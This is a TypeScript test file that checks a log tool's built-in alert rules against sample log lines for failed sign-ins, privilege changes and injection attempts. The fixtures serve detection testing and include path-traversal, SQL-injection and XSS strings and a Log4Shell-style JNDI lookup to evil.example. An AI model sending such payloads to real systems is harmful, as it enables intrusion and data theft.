import { describe, expect, it } from 'vitest'
import page from '../../docs/rules.md?raw'
import { compileFilter } from '../../src/query/filter'
import { countMatches } from '../../src/query/mask'
import { parseQuery } from '../../src/query/parse'
import { BUILT_IN_RULES, builtInId } from '../../src/rules/built-in-rules'
import { faultsOfRule } from '../../src/rules/rule-faults'
import { EVENT_TYPES } from '../../src/webhooks/event'
import { blocksOf, journalTables } from '../support/log-tables'
import { MIXED_LOGS_MS, mixedLogs } from '../support/mixed-logs'
import { sampleLogs } from '../support/sample-logs'

const NOW_MS = MIXED_LOGS_MS + 3_600_000

function draftOf(key: string) {
  const found = BUILT_IN_RULES.find((rule) => rule.key === key)
  if (found === undefined) throw new Error(`there is no rule ${key}`)
  return found.draft
}

function matches(key: string, logs: readonly string[]): number {
  const compiled = compileFilter(parseQuery(draftOf(key).query).filter, NOW_MS, { costlyRegex: 'refuse' })
  if (!compiled.ok) throw new Error(compiled.problem.message)
  return journalTables(blocksOf([logs], { nowMs: NOW_MS })).reduce(
    (sum, table) => sum + countMatches(compiled.filter.evaluate(table), table.rows),
    0,
  )
}

const message = (text: string): object => ({ message: text })
const fromAddress = (text: string): object => ({ message: text, ip: '203.0.113.7' })

const EXAMPLES: Readonly<Record<string, { readonly meant: readonly object[]; readonly harmless: readonly object[] }>> =
  {
    critical_error: {
      meant: [
        { level: 'fatal', message: 'out of memory' },
        { severity: 'CRITICAL', message: 'the database is gone' },
        { level: 'error', severity: 'critical', message: 'payments are down' },
      ],
      harmless: [
        { level: 'error', message: 'a critical section was left' },
        { level: 'warn', message: 'fatal: not a git repository' },
        { level: 'error', severity: 'high', message: 'payment timeout' },
      ],
    },
    security_incident_sign_ins: {
      meant: [
        fromAddress('Failed password for root from 203.0.113.7 port 22 ssh2'),
        fromAddress('Failed password for invalid user admin from 203.0.113.7 port 22 ssh2'),
        fromAddress('Login failed for user ann'),
        fromAddress('Authentication failure'),
        fromAddress('Invalid credentials'),
        fromAddress('User ann failed to log in: wrong password'),
        fromAddress('Sign-in failed'),
        fromAddress('Sign in failed for ann'),
        fromAddress('Invalid user oracle from 203.0.113.7 port 40022'),
        fromAddress('Invalid user oracle from 2001:db8::7 port 40022'),
        fromAddress('ann failed to log in'),
        fromAddress('Failed to sign in: account locked'),
        { client_ip: '203.0.113.7', event: 'login_failed' },
        { remote_addr: '203.0.113.7', event: { action: 'authentication-failure' } },
        { metadata: { ip: '203.0.113.7' }, message: 'bad password' },
      ],
      harmless: [
        fromAddress('Login succeeded for user ann'),
        fromAddress('password changed'),
        fromAddress('0 failed assignments, credentials loaded'),
        fromAddress('signature verified'),
        fromAddress('invalid user input from api'),
        fromAddress('failed to log internal error'),
        { ip: '203.0.113.7', event: 'login_succeeded' },
        message('Failed password for root'),
      ],
    },
    security_incident_injection: {
      meant: [
        { path: '/download?file=../../../../etc/passwd' },
        { url: 'https://shop.example/static/..%2f..%2f..%2fetc%2fpasswd' },
        { uri: '/cgi-bin/%2e%2e/%2e%2e/bin/sh' },
        { path: '/items?id=1%20UNION%20SELECT%20password%20FROM%20users' },
        { request: "GET /login?user=admin'%20OR%201=1-- HTTP/1.1" },
        { http: { target: "/q?name=x');DROP TABLE students;--" } },
        message('GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1 200'),
        message(`User-Agent: $\{jndi:ldap://evil.example/a}`),
        message('GET /a?x=1+union+all+select+null,null HTTP/1.1'),
        { path: '/..\\..\\windows\\win.ini' },
      ],
      harmless: [
        message('SELECT id FROM a UNION SELECT id FROM b'),
        message('at Object.<anonymous> (../../src/etc-loader.js:10:5)'),
        message("it's 1 or 2 items"),
        message('DROP TABLE old_events; done in 3 ms'),
        message('drop table if exists t;'),
        { path: '/blog/union-select-explained' },
        { path: '/docs/a..b/c' },
        { path: '../../packages/core/index.ts' },
        { url: 'https://shop.example/search?q=the+script+of+a+film' },
        message('rendered <script> in 3 ms'),
      ],
    },
    security_incident_privileges: {
      meant: [
        message('User bob was promoted to admin by ann'),
        message('role changed from editor to "admin"'),
        message("user bob added to group 'sudo' by root"),
        message('possible privilege escalation in container 12'),
        message('bob : user NOT in sudoers ; TTY=pts/0 ; COMMAND=/bin/sh'),
        message("GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%'"),
        { event: 'privilege_escalation' },
        { event: { action: 'role_granted' } },
        { action: 'grant_admin' },
      ],
      harmless: [
        message('admin signed in'),
        message('GET /admin/users 200'),
        message('sudo: session opened for user root'),
        message('dropped privileges to www-data'),
        message('role changed to viewer'),
        { event: 'permission_checked' },
        { action: 'granted' },
      ],
    },
  }

describe('a built-in rule', () => {
  it.each(BUILT_IN_RULES.map(({ key, draft }) => [key, draft] as const))(
    '%s can be a rule of a tenant',
    (key, draft) => {
      expect(faultsOfRule({ ...draft, id: builtInId(key) }, [])).toEqual([])
      expect(draft.kind).toBe('trigger')
    },
  )

  it('is told by an event that webhooks know, and is in the documents', () => {
    for (const { key, draft } of BUILT_IN_RULES) {
      const events =
        draft.kind === 'trigger' ? draft.actions.flatMap((one) => (one.type === 'notify' ? [one.event] : [])) : []
      expect(events).toHaveLength(1)
      expect(Object.keys(EVENT_TYPES)).toContain(events[0])
      expect(page).toContain(`| \`${builtInId(key)}\` |`)
      expect(page).toContain(`| \`${events[0]}\` |`)
    }
  })

  for (const [key, { meant, harmless }] of Object.entries(EXAMPLES)) {
    it.each(meant.map((log) => [JSON.stringify(log)]))(`${key} finds %s`, (log) => {
      expect(matches(key, [log])).toBe(1)
    })

    it.each(harmless.map((log) => [JSON.stringify(log)]))(`${key} leaves %s alone`, (log) => {
      expect(matches(key, [log])).toBe(0)
    })
  }

  it.each(['security_incident_sign_ins', 'security_incident_injection', 'security_incident_privileges'])(
    '%s is quiet on ordinary logs',
    (key) => {
      expect(matches(key, sampleLogs({ count: 20_000, seed: 3, startMs: MIXED_LOGS_MS }))).toBe(0)
      expect(matches(key, mixedLogs({ count: 1000, seed: 3 }))).toBe(0)
    },
  )
})
